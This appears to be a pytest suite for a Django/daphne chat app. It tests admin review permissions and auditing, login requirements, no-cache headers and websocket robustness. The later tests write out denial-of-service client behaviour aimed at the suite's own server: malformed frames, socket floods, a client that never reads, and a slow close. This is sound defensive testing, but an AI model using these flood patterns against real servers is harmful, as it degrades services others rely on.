    admin = await get_user_model().objects.acreate_superuser("root", password="pw-root")
    conversation = await make_conversation(owner, model_name="qwen3-vl-plus")
    ws, _, _ = await connect(owner, conversation)
    transcript = Transcript()
    reply = await send_and_settle(ws, transcript, "what is this?", image_urls=" ".join(urls))
    await ws.disconnect()
    assert (await Message.objects.aget(pk=reply)).status == "complete"

    client = AsyncClient()
    await client.aforce_login(owner)
    vision = await ModelProfile.objects.aget(name="qwen3-vl-plus")
    response = await client.post(
        "/c/new/", {"content": "and this?", "image_urls": f"{base}/form.png", "model": vision.pk}
    )
    assert response.status_code == 302
    second = await Conversation.objects.exclude(pk=conversation.pk).aget(owner=owner)
    await wait_for_status((await assistant_reply(second)).pk, {"complete"})
    await sync_to_async(_pages)(owner, admin, [conversation, second])
    await asyncio.sleep(0.3)

    assert hits == [], "the server fetched an image URL itself"
    sent = json.dumps([r.body for r in app_simulator.requests])
    for url in [*urls, f"{base}/form.png"]:
        assert json.dumps(url)[1:-1] in sent, "the URL goes to DashScope"
    # The recorder works: a request to it is seen.
    await sync_to_async(urllib.request.urlopen)(base + "/probe")
    assert hits == ["GET /probe"]


# -- admin review: permission and audit ------------------------------------------------------------


def _staff(django_user_model, username: str, *perms: str):
    user = django_user_model.objects.create_user(username, password="pw", is_staff=True)
    for codename in perms:
        user.user_permissions.add(Permission.objects.get(codename=codename))
    return user


def _admin_urls(conversation: Conversation) -> dict[str, str]:
    message = conversation.messages.first()
    return {
        "conversation changelist": "/admin/conversations/conversation/",
        "conversation change": f"/admin/conversations/conversation/{conversation.pk}/change/",
        "conversation history": f"/admin/conversations/conversation/{conversation.pk}/history/",
        "conversation delete": f"/admin/conversations/conversation/{conversation.pk}/delete/",
        "message changelist": "/admin/conversations/message/",
        "message change": f"/admin/conversations/message/{message.pk}/change/",
        "message search": "/admin/conversations/message/?q=alice-answer",
        "conversation search": "/admin/conversations/conversation/?q=alice-answer",
    }


@pytest.mark.django_db
def test_staff_without_review_permission_gets_nothing(client, django_user_model, alices_chat):
    staff = _staff(django_user_model, "sam", "view_modelprofile", "view_systemprompt")
    client.force_login(staff)
    for what, url in _admin_urls(alices_chat).items():
        response = client.get(url)
        assert response.status_code in (302, 403, 404), what
        assert b"alice-answer-9c1" not in response.content and b"Alice secret" not in (
            response.content
        ), what
    response = client.post(
        "/admin/conversations/conversation/",
        {"action": "export_json", "_selected_action": [str(alices_chat.pk)]},
    )
    assert response.status_code == 403 and b"alice-answer-9c1" not in response.content
    index = client.get("/admin/").content.decode()
    assert "/admin/conversations/conversation/" not in index
    assert "/admin/conversations/message/" not in index
    assert not LogEntry.objects.exists()


@pytest.mark.django_db
def test_reviewer_reads_but_cannot_change(client, django_user_model, alices_chat):
    reviewer = _staff(django_user_model, "rita", "review_conversation")
    client.force_login(reviewer)
    urls = _admin_urls(alices_chat)
    for what in ("conversation changelist", "conversation change", "message change",
                 "message search", "conversation search"):  # fmt: skip
        assert client.get(urls[what]).status_code == 200, what
    assert b"alice-answer-9c1" in client.get(urls["conversation change"]).content
    before = snapshot(alices_chat)
    message = alices_chat.messages.get(role="assistant")
    assert client.get(urls["conversation delete"]).status_code == 403
    assert client.post(urls["conversation delete"], {"post": "yes"}).status_code == 403
    assert client.get("/admin/conversations/conversation/add/").status_code == 403
    assert client.post(urls["conversation change"], {"title": "changed"}).status_code == 403
    assert client.post(urls["message change"], {"content": "changed"}).status_code == 403
    client.post(
        "/admin/conversations/conversation/",
        {"action": "delete_selected", "_selected_action": [str(alices_chat.pk)], "post": "yes"},
    )
    assert snapshot(alices_chat) == before
    message.refresh_from_db()
    assert message.content == "alice-answer-9c1"


@pytest.mark.django_db
def test_reviews_are_audited(client, django_user_model, alices_chat, caplog):
    """Opening someone else's conversation or message, or exporting it, in the admin leaves
    a record naming the reviewer, the conversation and the time, on the conversation's
    History page and on the qwenweb.audit logger."""
    caplog.set_level(logging.INFO, logger="qwenweb.audit")
    reviewer = _staff(django_user_model, "rita", "review_conversation")
    client.force_login(reviewer)
    urls = _admin_urls(alices_chat)
    start = timezone.now()
    assert client.get(urls["conversation change"]).status_code == 200
    assert client.get(urls["message change"]).status_code == 200
    response = client.post(
        "/admin/conversations/conversation/",
        {"action": "export_json", "_selected_action": [str(alices_chat.pk)]},
    )
    assert json.loads(response.content)[0]["id"] == str(alices_chat.id)
    end = timezone.now()

    entries = list(LogEntry.objects.order_by("pk"))
    assert [e.change_message for e in entries] == [
        "Viewed for review",
        f"Viewed message {alices_chat.messages.first().pk} for review",
        "Exported as JSON for review",
    ]
    for entry in entries:
        assert entry.user_id == reviewer.pk
        assert entry.content_type == ContentType.objects.get_for_model(Conversation)
        assert entry.object_id == str(alices_chat.pk)
        assert start <= entry.action_time <= end
        assert entry.action_flag == REVIEWED
        assert not (entry.is_addition() or entry.is_change() or entry.is_deletion())
    audit = [r.getMessage() for r in caplog.records if r.name == "qwenweb.audit"]
    assert len(audit) == 3 and all("rita" in line and str(alices_chat.pk) in line
                                   for line in audit)  # fmt: skip

    # An admin sees them on the conversation's History page.
    superuser = django_user_model.objects.create_superuser("root", password="pw")
    client.force_login(superuser)
    history = client.get(urls["conversation history"]).content.decode()
    assert history.count("rita") >= 3
    assert "Viewed for review" in history and "Exported as JSON for review" in history


@pytest.mark.django_db
def test_own_conversations_are_not_audited(client, django_user_model, alices_chat):
    """Only reading someone else's conversation is a review; refused requests are none."""
    alice = alices_chat.owner
    alice.is_staff = True
    alice.save()
    alice.user_permissions.add(Permission.objects.get(codename="review_conversation"))
    client.force_login(alice)
    assert client.get(_admin_urls(alices_chat)["conversation change"]).status_code == 200
    staff = _staff(django_user_model, "sam")
    client.force_login(staff)
    assert client.get(_admin_urls(alices_chat)["conversation change"]).status_code == 403
    assert not LogEntry.objects.exists()


# -- every page and socket needs a login -----------------------------------------------------------

# Anyone may use these: signing in, the health check, and choosing the language of the sign-in
# page (a cookie and a redirect; it shows and changes no one's data, and CSRF applies).
# An invitation link (made by an admin, used once) is opened by someone who has no password yet.
PUBLIC_URL_NAMES = {"login", "admin:login", "healthz", "set_language", "invitation"}


@pytest.mark.django_db
def test_every_page_needs_a_login(client):
    """Every URL in the URL conf (dummy ids where it takes one), as an anonymous user: a
    redirect to a login page, or 404/405; never a page, except PUBLIC_URL_NAMES."""
    login_pages = {reverse("login"), reverse("admin:login")}
    wrong = []
    for path, name, _ in url_patterns():
        for method in ("get", "post"):
            response = getattr(client, method)(path)
            status = response.status_code
            if name in PUBLIC_URL_NAMES:
                continue
            if status == 302:
                target = response["Location"].split("?")[0]
                if target in login_pages:
                    continue
            elif status in (404, 405):
                continue
            wrong.append((method.upper(), path, name, status, response.get("Location")))
    assert wrong == [], "reachable without a login"
    assert client.get(reverse("healthz")).status_code == 200


# -- a signed-in user's pages stay out of the browser's cache -----------------------------------

# Pages that must answer 200 to their owner in the walk below (so it cannot pass on errors).
OWN_PAGES = {
    "home", "conversation", "conversation_messages", "conversation_export_json",
    "conversation_export_md", "admin:index",
}  # fmt: skip
NEVER_CACHE = "max-age=0, no-cache, no-store, must-revalidate, private"


def cache_directives(response) -> set[str]:
    return {
        part.strip().split("=")[0].lower()
        for part in response.get("Cache-Control", "").split(",")
        if part.strip()
    }


# Images (thumbnails, uploads) a reader's own browser may keep: private, and Vary: Cookie.
KEPT_BY_THEIR_READER = {"conversation_image", "message_image"}


@pytest.mark.django_db
def test_every_page_of_a_signed_in_user_is_never_stored(client, alice, alices_chat):
    """Every URL in the URL conf, as GET from a signed-in user (on her own conversation where
    the URL takes one; plain and htmx), and the POSTs that answer with a page or a fragment:
    `Cache-Control: no-store, private`, whatever the status, so that after she signs out of
    a shared computer Back shows none of it from the browser's cache."""
    alice.is_staff = alice.is_superuser = True  # the admin's pages too
    alice.save()
    client.force_login(alice)
    wrong, seen = [], {}
    for path, name, _ in url_patterns():
        path = path.replace(DUMMY_UUID, str(alices_chat.id))
        for headers in ({}, {"HX-Request": "true"}):
            response = client.get(path, headers=headers)
            seen[name] = response.status_code
            # An image never changes: only the reader's own browser keeps it, and not past a
            # change of session cookie (qwenweb/cache_control.py).
            kept_by_reader = (
                name in KEPT_BY_THEIR_READER
                and response.status_code == 200
                and "private" in cache_directives(response)
                and "Cookie" in response.get("Vary", "")
            )
            if kept_by_reader:
                continue
            if not {"no-store", "private"} <= cache_directives(response):
                wrong.append(
                    ("GET", path, headers, response.status_code, response.get("Cache-Control"))
                )
    base = f"/c/{alices_chat.id}/"
    posts = [
        (f"{base}rename/", {"title": "Renamed"}, {"HX-Request": "true"}),  # the title fragment
        (f"{base}settings/", {"model": _other_enabled_model(alices_chat)}, {"HX-Request": "true"}),
        (f"{base}settings/", {"model": "forged"}, {"HX-Request": "true"}),  # 400, a fragment
        ("/c/new/", {"content": "x" * (django_settings.QWENWEB_MAX_MESSAGE_CHARS + 1)}, {}),
        ("/c/new/", {}, {}),
    ]
    for path, data, headers in posts:
        response = client.post(path, data, headers=headers)
        if not {"no-store", "private"} <= cache_directives(response):
            wrong.append(
                ("POST", path, headers, response.status_code, response.get("Cache-Control"))
            )
    assert wrong == [], "a signed-in user's response the browser may keep"
    assert {name: seen[name] for name in OWN_PAGES} == dict.fromkeys(OWN_PAGES, 200)


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_pages_served_over_asgi_are_never_stored_either():
    """The same through Django's ASGI handler, as daphne serves it (the check runs in the
    synchronous part of the middleware chain there): a sync view, an async one, a fragment."""
    owner = await make_user("alice")
    conversation = await make_conversation(owner)
    client = AsyncClient()
    await client.aforce_login(owner)
    responses = [
        await client.get("/"),
        await client.post("/c/new/"),
        await client.get(f"/c/{conversation.id}/messages/", headers={"HX-Request": "true"}),
    ]
    assert [r.status_code for r in responses] == [200, 302, 200]
    for response in responses:
        assert {"no-store", "private"} <= cache_directives(response)


@pytest.mark.django_db
def test_static_files_and_public_pages_keep_their_caching(client, alice):
    """Static files keep WhiteNoise's public caching, signed in or not; the health check and
    the sign-in page keep what Django's never_cache gives them (no-store already), for
    anyone."""
    static = django_settings.STATIC_URL + "qwenweb/app.css"
    for signed_in in (False, True):
        if signed_in:
            client.force_login(alice)
        response = client.get(static)
        assert response.status_code == 200
        assert "no-store" not in cache_directives(response)
        assert {"public", "max-age"} <= cache_directives(response)
        response.close()
        assert client.get(reverse("healthz"))["Cache-Control"] == NEVER_CACHE
    client.logout()
    assert client.get(reverse("login"))["Cache-Control"] == NEVER_CACHE


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_every_socket_needs_a_login():
    owner = await make_user("alice")
    conversation = await make_conversation(owner)
    for pattern in websocket_urlpatterns:
        path = "/" + re.sub(r"<(?:\w+:)?(\w+)>", str(conversation.id), str(pattern.pattern))
        assert await _raw_socket(path, None) == (False, 4403), path


# -- a socket's abuse costs a bounded amount, on a real daphne -------------------------------------
#
# These run against a daphne process of their own (its log and its figures are read), through
# the `websockets` client: daphne's websocket layer (autobahn) is where a bad close code and
# an unread socket used to cost memory, so the in-process communicator cannot show them.

OPS_PASSWORD = "ops-pass-7713"
USERS = {"mallory": "mallory-pass-1", "carol": "carol-pass-2", "dave": "dave-pass-3",
         "erin": "erin-pass-4"}  # fmt: skip


@pytest.fixture(scope="module")
def own_server(app_simulator, tmp_path_factory):
    """A daphne of these tests' own, on SQLite, with a staff account (to read the process's
    figures on /healthz) and a few users."""
    import sys

    from tests.live_server import app_env

    data_dir = tmp_path_factory.mktemp("abuse")
    env = app_env(
        data_dir,
        app_simulator,
        QWENWEB_MESSAGES_PER_MINUTE="0",
        # 1 MiB rather than 8: one answer to a hello below passes it.
        QWENWEB_SOCKET_BACKLOG_BYTES=str(1 << 20),
    )
    run = {"cwd": ROOT, "env": env, "check": True, "capture_output": True}
    subprocess.run([sys.executable, "manage.py", "migrate", "-v0"], **run)
    users = "; ".join(f"User.objects.create_user({n!r}, password={p!r})" for n, p in USERS.items())
    subprocess.run(
        [sys.executable, "manage.py", "shell", "-c",
         "from django.contrib.auth.models import User; "
         f"User.objects.create_user('ops', password={OPS_PASSWORD!r}, is_staff=True); {users}"],
        **run,
    )  # fmt: skip
    log_path = data_dir / "daphne.log"
    process, url = _start_daphne(env, log_path)

    class Server:
        pass

    server = Server()
    server.url, server.env, server.process, server.log_path = url, env, process, log_path

    def shell(code: str) -> str:
        """Run code in `manage.py shell`, as an admin at the command line would; returns the
        last line it printed."""
        output = subprocess.run(
            [sys.executable, "manage.py", "shell", "-c", code], **{**run, "text": True}
        ).stdout
        return (output.strip().splitlines() or [""])[-1]

    server.shell = shell
    yield server
    process.terminate()
    process.wait(timeout=10)


def _socket_options(client, path: str) -> tuple[str, dict]:
    url = str(client.base_url).rstrip("/")
    headers = {"Cookie": "; ".join(f"{k}={v}" for k, v in client.cookies.items())}
    return url.replace("http://", "ws://") + "/ws" + path, {
        "additional_headers": headers,
        "origin": url,
    }


def _process(ops) -> dict:
    return ops.get("/healthz").json()["process"]


def _settled(ops, *, within: float = 10.0) -> dict:
    """The process's figures once its sockets have all gone (daphne reaps a closed socket's
    application within a second or two)."""
    deadline = time.monotonic() + within
    while True:
        figures = _process(ops)
        if figures["sockets"] == 0 or time.monotonic() > deadline:
            time.sleep(1.5)  # and once cancelled tasks are gone too
            return _process(ops)
        time.sleep(0.2)


def _log_since(server, offset: int) -> str:
    return server.log_path.read_bytes()[offset:].decode(errors="replace")


BAD_FRAMES = [
    "x",  # text, not JSON
    b"\x00\x01binary",
    "[1, 2]",  # JSON, not an object
    "x" * (256 * 1024 + 1),  # over MAX_FRAME_BYTES
]


def test_bad_frames_close_with_a_reason_and_leave_nothing_behind(own_server):
    """1,000 sockets closed by a bad frame leave the process as 1,000 clean closes do: no
    socket in the registry, no background task, no memory beyond, no traceback in the log;
    each is closed with a code of the app's own and a sentence. (Before: close(1003) was
    refused by autobahn, daphne sent 1011 and logged a traceback, disconnect() never ran, and
    every such consumer stayed registered with its tasks running.)"""
    import websockets

    mallory = signed_in_client(own_server.url, "mallory", USERS["mallory"])
    ops = signed_in_client(own_server.url, "ops", OPS_PASSWORD)
    ws_url, options = _socket_options(mallory, new_chat(mallory))
    log_offset = own_server.log_path.stat().st_size

    async def sockets(count: int, bad: bool) -> list[tuple[int, str]]:
        closes = []

        async def one(n: int) -> None:
            async with websockets.connect(ws_url, max_size=None, **options) as ws:
                if not bad:
                    return  # a clean close, code 1000
                await ws.send(BAD_FRAMES[n % len(BAD_FRAMES)])
                with pytest.raises(websockets.ConnectionClosed) as closed:
                    while True:
                        await asyncio.wait_for(ws.recv(), 10)
                closes.append((closed.value.rcvd.code, closed.value.rcvd.reason))

        for start in range(0, count, 25):
            await asyncio.gather(*(one(n) for n in range(start, min(count, start + 25))))
        return closes

    asyncio.run(sockets(100, bad=False))  # warm up: caches, pools, the markdown renderer
    before = _settled(ops)
    asyncio.run(sockets(1000, bad=False))
    after_clean = _settled(ops)
    closes = asyncio.run(sockets(1000, bad=True))
    after_bad = _settled(ops)

    codes = {code for code, _reason in closes}
    assert len(closes) == 1000 and codes == {4003, 4009}, codes
    assert all(reason for _code, reason in closes)
    assert {reason for _code, reason in closes} == {
        "This connection takes JSON objects only.",
        "This connection takes text messages only.",
        "That message was too large to handle.",
    }
    assert after_clean["sockets"] == after_bad["sockets"] == 0, (after_clean, after_bad)
    assert after_bad["tasks"] <= after_clean["tasks"] + 2, (before, after_clean, after_bad)
    grown_clean = after_clean["rss_bytes"] - before["rss_bytes"]
    grown_bad = after_bad["rss_bytes"] - after_clean["rss_bytes"]
    print(f"RSS: +{grown_clean / 2**20:.1f} MB over 1,000 clean closes, "
          f"+{grown_bad / 2**20:.1f} MB over 1,000 bad frames")  # fmt: skip
    assert grown_bad < grown_clean + 8 * 2**20, (grown_clean, grown_bad)
    log = _log_since(own_server, log_offset)
    assert "Traceback" not in log and "Exception inside application" not in log, log[-3000:]


def test_the_server_waits_for_the_clients_answer_to_its_close(own_server):
    """A client that takes two seconds to answer the server's close frame still gets the
    frame and a connection to answer it on. (Before: autobahn's 1 s close-handshake timeout,
    quantized down to whole seconds by its timers, aborted the connection 0-1 s after the
    close frame was queued; under load the abort sometimes came before the frame had left,
    and the client saw a bare reset with no code and no reason, about one full CI run in
    three.)"""
    import websockets

    mallory = signed_in_client(own_server.url, "mallory", USERS["mallory"])
    ws_url, options = _socket_options(mallory, new_chat(mallory))

    async def slow_to_answer() -> tuple[bytes, str]:
        async with websockets.connect(ws_url, **options) as ws:
            ws.transport.pause_reading()  # from here on the test reads the socket itself
            raw = socket.socket(fileno=os.dup(ws.transport.get_extra_info("socket").fileno()))
            try:
                await ws.send(b"\x00\x01binary")
                await asyncio.sleep(2.0)  # a client busy elsewhere: nothing is read
                raw.setblocking(False)
                received, state = b"", "open"  # open: still waiting for this client's answer
                try:
                    while chunk := raw.recv(65536):
                        received += chunk
                    state = "closed"
                except BlockingIOError:
                    pass
                except ConnectionResetError:
                    state = "reset"
                return received, state
            finally:
                raw.close()

    received, state = asyncio.run(slow_to_answer())
    close = received.rfind(b"\x88")
    assert close >= 0, received[-200:]
    code = int.from_bytes(received[close + 2 : close + 4], "big")
    assert code == 4003 and received.endswith(b"This connection takes text messages only.")
    assert state == "open", state


def test_a_client_that_stops_reading_is_dropped_and_costs_bounded_memory(own_server):
    """A client that sends hellos naming long messages and never reads what comes back: the
    hellos are answered at most once a second, the server stops reading from it once its
    buffer is full, the socket is dropped once what waits for it passes
    QWENWEB_SOCKET_BACKLOG_BYTES (1 MiB here), and the process's memory grows by a bounded
    amount (before: 1,000 hellos took a process from 341 MB to 723 MB, kept after the client
    left)."""
    import socket

    import websockets

    dave = signed_in_client(own_server.url, "dave", USERS["dave"])
    ops = signed_in_client(own_server.url, "ops", OPS_PASSWORD)
    path = new_chat(dave)
    conversation_id = path.strip("/").split("/")[-1]
    # Twenty finished replies of 200 KB each: every hello naming them asks for 4 MB of HTML.
    ids = json.loads(own_server.shell(
        "import json; from conversations.models import Conversation, Message; "
        f"c = Conversation.objects.get(pk={conversation_id!r}); "
        "body = ('A paragraph of a long reply, *with* some `code` in it. ' * 30 + '\\n\\n') * 120; "
        "ids = [Message.objects.create(conversation=c, role='assistant', status='complete', "
        "content=body).pk for _ in range(20)]; print(json.dumps(ids))"
    ))  # fmt: skip
    ws_url, options = _socket_options(dave, path)
    before = _settled(ops)

    async def flood() -> tuple[int, float]:
        raw = socket.socket()
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # the kernel holds little
        raw.connect(("127.0.0.1", int(ws_url.split(":")[2].split("/")[0])))
        async with websockets.connect(ws_url, sock=raw, max_queue=1, **options) as ws:
            hello = json.dumps({"type": "hello", "streaming": ids * 5, "last": None})
            started = time.monotonic()
            sent = 0
            try:
                while time.monotonic() - started < 30:
                    await asyncio.wait_for(ws.send(hello), 5)
                    sent += 1
                    await asyncio.sleep(0.05)
            except (websockets.ConnectionClosed, OSError, TimeoutError):
                return sent, time.monotonic() - started
            return sent, -1.0

    hellos, dropped_after = asyncio.run(flood())
    peak = _process(ops)
    after = _settled(ops)
    print(f"{hellos} hellos, dropped after {dropped_after:.1f} s; RSS "
          f"{before['rss_bytes'] / 2**20:.0f} -> {peak['rss_bytes'] / 2**20:.0f} MB "
          f"(after: {after['rss_bytes'] / 2**20:.0f} MB)")  # fmt: skip
    assert dropped_after > 0, "the socket of a client that does not read was never dropped"
    assert after["sockets"] == 0
    assert peak["rss_bytes"] - before["rss_bytes"] < 64 * 2**20
    assert "stopped reading" in _log_since(own_server, 0)


def test_hellos_are_deduplicated_capped_and_answered_at_most_once_a_window(own_server):
    """Many hellos at once, naming the same finished replies over and over: the first is
    answered, the rest at most once more (the latest), each reply rendered once per answer."""
    import websockets

    erin = signed_in_client(own_server.url, "erin", USERS["erin"])
    path = new_chat(erin)
    conversation_id = path.strip("/").split("/")[-1]
    ids = json.loads(own_server.shell(
        "import json; from conversations.models import Conversation, Message; "
        f"c = Conversation.objects.get(pk={conversation_id!r}); "
        "ids = [Message.objects.create(conversation=c, role='assistant', status='complete', "
        "content=f'reply {n}').pk for n in range(30)]; print(json.dumps(ids))"
    ))  # fmt: skip
    ws_url, options = _socket_options(erin, path)

    async def hellos() -> list[str]:
        frames = []
        async with websockets.connect(ws_url, **options) as ws:
            hello = json.dumps({"type": "hello", "streaming": ids * 10, "last": None})
            for _ in range(200):
                await ws.send(hello)
            with contextlib.suppress(TimeoutError):
                while True:
                    frames.append(await asyncio.wait_for(ws.recv(), 2.5))
        return frames

    frames = asyncio.run(hellos())
    rendered = [pk for frame in frames for pk in re.findall(r'<article id="message-(\d+)"', frame)]
    counts = {int(pk): rendered.count(pk) for pk in set(rendered)}
    # At most MAX_HELLO_IDS (20) distinct replies per answer, each once; two answers.
    assert set(counts) <= set(ids[:20]) and len(counts) == 20, counts
    assert max(counts.values()) <= 2, counts


# What an admin does at the command line, where no signal reaches the server's sockets.
SESSION_ENDINGS = {
    "password-changed": "u = User.objects.get(username='carol'); u.set_password('new-pw-9'); "
    "u.save()",
    "deactivated": "User.objects.filter(username='carol').update(is_active=False)",
    "sessions-deleted": "from django.contrib.sessions.models import Session; "
    "Session.objects.all().delete()",
}


@pytest.mark.parametrize("ending", list(SESSION_ENDINGS))
def test_a_session_ended_from_the_command_line_refuses_the_next_send(own_server, ending):
    """A password changed, the account deactivated or the session deleted through
    `manage.py shell` (another process: its signals never reach the server's sockets): the
    already-open socket refuses the next send, saves nothing and closes with 4403, which
    makes the page reload onto the sign-in page."""
    import websockets

    own_server.shell(
        "from django.contrib.auth.models import User; "
        "u = User.objects.get(username='carol'); u.is_active = True; "
        f"u.set_password({USERS['carol']!r}); u.save()"
    )
    carol = signed_in_client(own_server.url, "carol", USERS["carol"])
    path = new_chat(carol)
    ws_url, options = _socket_options(carol, path)

    def saved() -> int:
        return int(own_server.shell(
            "from conversations.models import Message; "
            f"print(Message.objects.filter(conversation_id={path.strip('/').split('/')[-1]!r})"
            ".count())"
        ))  # fmt: skip

    async def scenario() -> tuple[int, str]:
        async with websockets.connect(ws_url, **options) as ws:
            await ws.send(json.dumps({"type": "send", "content": "before",
                                      "client_message_id": str(uuid.uuid4())}))  # fmt: skip
            transcript = Transcript()
            while "complete" not in transcript.status.values():
                transcript.feed(await asyncio.wait_for(ws.recv(), 10))
            await asyncio.to_thread(own_server.shell, SESSION_ENDINGS[ending])
            await asyncio.sleep(2.2)  # past SESSION_CHECK_INTERVAL: the next frame re-checks
            await ws.send(json.dumps({"type": "send", "content": "after",
                                      "client_message_id": str(uuid.uuid4())}))  # fmt: skip
            with pytest.raises(websockets.ConnectionClosed) as closed:
                while True:
                    await asyncio.wait_for(ws.recv(), 10)
            return closed.value.rcvd.code, closed.value.rcvd.reason

    code, reason = asyncio.run(scenario())
    assert code == 4403 and "Sign in again" in reason
    assert saved() == 2  # "before" and its reply; nothing of "after"


# -- a tab closed mid-reply is no error --------------------------------------------------------

CLOSING_REPLY = "A reply for a tab that goes away: " + " ".join(f"word{i}" for i in range(8000))


@pytest.fixture
def slow_client_server(live_app, tmp_path):
    """A second daphne on the live app's database whose connections have a 4 KB send buffer
    (a client that stops reading backs frames up in daphne at once), logging at DEBUG."""
    log_path = tmp_path / "daphne.log"
    env = {**live_app.env, "QWENWEB_LOG_LEVEL": "DEBUG"}
    process, url = _start_daphne(env, log_path, send_buffer=4096)
    try:
        yield url, process, log_path
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()


def _signed_in(url: str, username: str) -> httpx.Client:
    return signed_in_client(url, username, PASSWORDS[username])


def test_a_tab_closed_mid_reply_leaves_no_error_in_the_log(slow_client_server, app_simulator):
    """A tab that goes away while a reply streams to it is a normal event: the reply goes on
    to completion in the database, and the server logs no traceback for it. (The moment this
    is about: the tab's close frame is in, so autobahn refuses to send, but its connection is
    not gone yet, so the consumer is still listed among the conversation's sockets; a delta
    sent then raised autobahn's `Disconnected`, logged as a failure with its traceback.)

    The client is a real websocket client that stops reading, then sends its close frame and
    later drops the connection, as a closing tab behind a slow network does."""
    from websockets.client import ClientProtocol
    from websockets.protocol import State
    from websockets.uri import parse_uri

    url, process, log_path = slow_client_server
    app_simulator.add_scenario(
        Scenario(match="goes away", reply=CLOSING_REPLY, token_delay=0.0002, tokens_per_chunk=20)
    )
    client = _signed_in(url, "alice")
    location = client.post(
        "/c/new/", data={"csrfmiddlewaretoken": client.cookies["csrftoken"]},
        headers={"Referer": f"{url}/"},
    ).headers["Location"]  # fmt: skip

    uri = parse_uri(url.replace("http://", "ws://") + "/ws" + location)
    tab = ClientProtocol(uri, origin=url)
    handshake = tab.connect()
    handshake.headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in client.cookies.items())
    tab.send_request(handshake)
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.settimeout(10)
        sock.connect((uri.host, uri.port))

        def flush() -> None:
            sock.sendall(b"".join(tab.data_to_send()))

        flush()
        while tab.state is State.CONNECTING:
            tab.receive_data(sock.recv(4096))
        assert tab.state is State.OPEN
        frame = {"type": "send", "content": "a tab that goes away", "client_message_id": "%s"}
        tab.send_text((json.dumps(frame) % uuid.uuid4()).encode())
        flush()
        deltas = 0
        while not deltas:  # the reply streams to this tab
            tab.receive_data(sock.recv(4096))
            deltas = sum(1 for e in tab.events_received() if getattr(e, "data", b"")[:1] == b"+")
        time.sleep(1.5)  # not reading: what daphne sends backs up in its buffer
        tab.send_close(1001)  # the tab goes away
        flush()
        time.sleep(1)  # the reply streams on meanwhile
    # The connection is gone now (closed with unread data: reset).

    deadline = time.monotonic() + 30
    while True:
        last = client.get(f"{location}export.json").json()["messages"][-1]
        if last["status"] != "streaming" or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert (last["role"], last["status"]) == ("assistant", "complete")
    assert last["content"] == CLOSING_REPLY
    process.terminate()
    process.wait(timeout=10)
    log = log_path.read_text()
    assert "Disconnected" not in log
    assert "Traceback" not in log
    assert "closed while a frame was on its way" in log, "the test missed the moment"
